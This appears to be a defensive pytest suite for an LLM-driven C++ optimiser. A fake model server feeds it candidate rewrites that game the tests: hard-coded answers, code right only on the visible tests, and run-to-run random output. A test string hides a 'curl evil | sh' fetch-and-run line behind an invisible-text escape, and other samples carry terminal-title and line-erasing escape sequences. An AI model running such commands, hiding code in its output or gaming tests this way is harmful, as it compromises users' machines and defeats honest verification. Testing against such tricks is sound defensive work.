"""The adversarial suite, verification and presentation half (issue 11, items 1-4 and 9).

Hostile candidates come from `FakeOpenAIServer` (tests/models/fake_openai_server.py), a
TEST DOUBLE for an OpenAI-compatible LLM server on loopback: no model runs in the suite,
and a real server would hand the pipeline the same text. Everything after it is real: the
openai backend's parsing, g++, the sandbox, the tests, derived inputs, valgrind. Each test
asserts how the candidate is reported. docs/SECURITY.md lists these cases and outcomes.
"""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path

from rich.console import Console

from pie_lsp.pipeline import CandidateResult, OptimizeResult, Pipeline
from pie_lsp.report import render
from pie_lsp.settings import Settings
from pie_lsp.verify import find_tests

from ..conftest import EXAMPLES, write_program
from ..models.fake_openai_server import answers, serving

# The largest of n numbers. Slow in the contest way (synchronised cin); its tests happen to
# end with their largest number, and their answers are long enough to be no coincidence.
ORIGINAL = """#include <iostream>
using namespace std;
int main() {
    int n;
    cin >> n;
    long long best = -1000000000000LL;
    for (int i = 0; i < n; i++) {
        long long v;
        cin >> v;
        if (v > best) best = v;
    }
    cout << best << endl;
    return 0;
}
"""
TESTS = {
    "1": ("5\n31 7 250013 90 904127\n", "904127\n"),
    "2": ("6\n5 781233 12 -4 700 781239\n", "781239\n"),
    "3": ("4\n-9 3 100 655321\n", "655321\n"),
}
READ = "#include <cstdio>\n#include <vector>\n"

CANDIDATES = {
    # a correct rewrite (scanf): must survive the derived inputs
    "correct": READ
    + """int main() {
    int n;
    if (std::scanf("%d", &n) != 1) return 0;
    long long best = -1000000000000LL, v;
    for (int i = 0; i < n; i++) { std::scanf("%lld", &v); if (v > best) best = v; }
    std::printf("%lld\\n", best);
    return 0;
}
""",
    # item 1: answers the visible tests from a table
    "hardcoded": READ
    + """int main() {
    int n;
    std::scanf("%d", &n);
    if (n == 5) std::puts("904127");
    else if (n == 6) std::printf("%d\\n", 781239);
    else std::puts("655321");
    return 0;
}
""",
    # item 2: right on the three tests (each ends with its largest number), wrong elsewhere
    "last-is-max": READ
    + """int main() {
    int n;
    std::scanf("%d", &n);
    long long v = 0;
    for (int i = 0; i < n; i++) std::scanf("%lld", &v);
    std::printf("%lld\\n", v);
    return 0;
}
""",
    # item 3: output that changes from run to run (a coin flip per run)
    "random-device": "#include <random>\n"
    + READ
    + """int main() {
    std::random_device coin;
    int n;
    std::scanf("%d", &n);
    long long best = -1000000000000LL, v;
    for (int i = 0; i < n; i++) { std::scanf("%lld", &v); if (v > best) best = v; }
    std::printf("%lld\\n", best + (coin() & 1));
    return 0;
}
""",
    # item 3: output that depends on where the stack is (address randomisation)
    "stack-address": "#include <cstdint>\n"
    + READ
    + """int main() {
    int n;
    std::scanf("%d", &n);
    long long best = -1000000000000LL, v;
    for (int i = 0; i < n; i++) { std::scanf("%lld", &v); if (v > best) best = v; }
    std::printf("%lld\\n", best + (long long)(((std::uintptr_t)&n >> 4) & 1));
    return 0;
}
""",
}


def fenced(source: str) -> str:
    return f"```cpp\n{source}```\n"


def settings_for(settings: Settings, url: str) -> Settings:
    settings.model.backend = "openai"
    settings.model.openai.url = url
    settings.model.openai.model = "hostile"
    settings.model.samples = len(CANDIDATES)
    return settings


async def run_pipeline(settings: Settings, path: Path) -> OptimizeResult:
    pipeline = Pipeline(settings)
    try:
        return await pipeline.optimize(pipeline.job_for(path))
    finally:
        await pipeline.aclose()
        pipeline.cache.close()


async def test_hostile_candidates_are_rejected_with_their_reason(
    tmp_path: Path, settings: Settings
) -> None:
    path = write_program(tmp_path / "largest", ORIGINAL, TESTS)
    texts = [fenced(source) for source in CANDIDATES.values()]
    with serving({"hostile": answers(*texts)}) as server:
        result = await run_pipeline(settings_for(settings, server.url), path)
    assert result.status != "error", result.error
    by_text = {c.source.strip(): c for c in result.candidates}
    verdict = {name: by_text[source.strip()] for name, source in CANDIDATES.items()}
    print({name: (c.status, c.reason) for name, c in verdict.items()})

    correct = verdict["correct"]
    assert correct.status != "rejected", correct.reason
    assert result.derived_total >= 12
    assert correct.derived_passed == correct.derived_total == result.derived_total

    assert verdict["hardcoded"].status == "rejected"
    assert verdict["hardcoded"].reason == (
        "prints test 1's expected output as a literal: hard-coded answer"
    )

    last = verdict["last-is-max"]
    assert last.status == "rejected" and last.tests_passed == 3
    assert last.reason.startswith("derived input d")
    assert "output differs from the original's" in last.reason
    # the input it got wrong comes with it, to reproduce: the original's answer is not last
    numbers = [int(t) for t in last.counterexample.split()]
    assert numbers[0] == len(numbers) - 1 and max(numbers[1:]) != numbers[-1]

    # a coin flip per run: some run (test, derived input or measurement) must catch it
    for name in ("random-device", "stack-address"):
        flaky = verdict[name]
        assert flaky.status == "rejected", (name, flaky.reason)
        assert any(
            words in flaky.reason
            for words in ("wrong output", "differs from the original", "another output")
        ), flaky.reason


async def test_derived_inputs_off_reports_tests_only(tmp_path: Path, settings: Settings) -> None:
    path = write_program(tmp_path / "largest", ORIGINAL, TESTS)
    settings.tests.derived = 0
    with serving({"hostile": answers(fenced(CANDIDATES["last-is-max"]))}) as server:
        result = await run_pipeline(settings_for(settings, server.url), path)
    # without derived inputs the wrong rewrite is indistinguishable on the tests
    assert result.derived_total == 0
    assert result.candidates[0].status != "rejected", result.candidates[0].reason
    assert "derived" not in result.summary()


def test_missing_expected_output_is_named(tmp_path: Path, settings: Settings) -> None:
    path = write_program(tmp_path / "largest", ORIGINAL, TESTS)
    (path.parent / "prog.tests" / "output.3.txt").unlink()
    suite = find_tests(path)
    assert [c.name for c in suite.cases] == ["1", "2"]
    assert suite.warnings == (
        f"{path.parent / 'prog.tests' / 'output.3.txt'} is missing: its input is not run as a test",
    )


# A faster prefix_sums with lines a terminal would hide or rewrite: text made invisible
# (SGR 8), a carriage return that overwrites a line, and Rich markup.
HIDDEN = (
    '// \x1b[8msystem("curl evil | sh");\x1b[0m\n'
    "// harmless comment\rint looks_fine = 1;\n"
    "// [white on white]secret[/]\n"
)


def test_cli_diff_shows_hidden_text(tmp_path: Path) -> None:
    folder = tmp_path / "prefix"
    folder.mkdir()
    for item in (EXAMPLES / "prefix_sums").iterdir():
        target = folder / item.name
        if item.is_dir():
            target.mkdir()
            for f in item.iterdir():
                (target / f.name).write_bytes(f.read_bytes())
        else:
            target.write_bytes(item.read_bytes())
    slow = folder / "slow.cpp"
    fast = (
        slow.read_text()
        .replace(
            "int main() {\n",
            "int main() {\n    ios::sync_with_stdio(false);\n    cin.tie(nullptr);\n",
        )
        .replace("endl", "'\\n'")
    )
    fast = HIDDEN + fast
    with serving({"hostile": answers(fenced(fast))}) as server:
        done = subprocess.run(
            [
                *(sys.executable, "-m", "pie_lsp", "optimize", str(slow)),
                *("--model", "openai", "--model-url", server.url, "--model-name", "hostile"),
                *("--samples", "1", "--simulator", "estimate", "--set", "tests.derived=4"),
            ],
            capture_output=True,
            timeout=600,
            env={"PATH": "/usr/bin:/bin", "XDG_CACHE_HOME": str(tmp_path / "cache")},
            check=False,
        )
    assert done.returncode == 0, done.stderr
    raw = done.stdout  # bytes: text mode would turn a raw \r into a line break
    assert b"\x1b" not in raw and b"\r" not in raw  # nothing reaches the terminal raw
    out = raw.decode()
    flat = " ".join(out.split())  # Rich wraps lines at the terminal's width
    assert "faster" in flat and "4 derived inputs agree with the original" in flat, out
    assert "\\x1b[8msystem" in out
    # the completion parser reads a lone \r as a line break (as g++ does): the diff shows
    # the line it would have hidden as a line of its own
    assert "+// harmless comment\n+int looks_fine = 1;" in out
    assert "[white on white]secret[/]" in out


async def test_a_slow_original_names_the_timeout_setting(
    tmp_path: Path, settings: Settings
) -> None:
    path = write_program(tmp_path / "slow", SLEEPS, {"1": ("\n", "\n")})
    settings.tests.timeout = 1
    result = await run_pipeline(settings, path)
    assert result.status == "error"
    assert result.error is not None and "timed out after 1 s" in result.error
    assert "pie.tests.timeout" in result.hint and "tests.timeout = 1 s" in result.hint


SLEEPS = "#include <unistd.h>\nint main() { sleep(60); return 0; }\n"


def test_reasons_and_notes_are_shown_as_text() -> None:
    hostile = "\x1b]0;pwned\x07[bold red]ok[/] \x1b[2K\rall fine"
    result = OptimizeResult(
        status="not-optimized",
        path="p.cpp",
        candidates=[CandidateResult(hostile, hostile, "", "rejected", reason=hostile)],
        notes=[hostile],
    )
    out = io.StringIO()
    render(result, Console(file=out, width=300, color_system=None, highlight=False))
    text = out.getvalue()
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert text.count("\\x1b]0;pwned\\x07[bold red]ok[/] \\x1b[2K\\rall fine") == 3, text
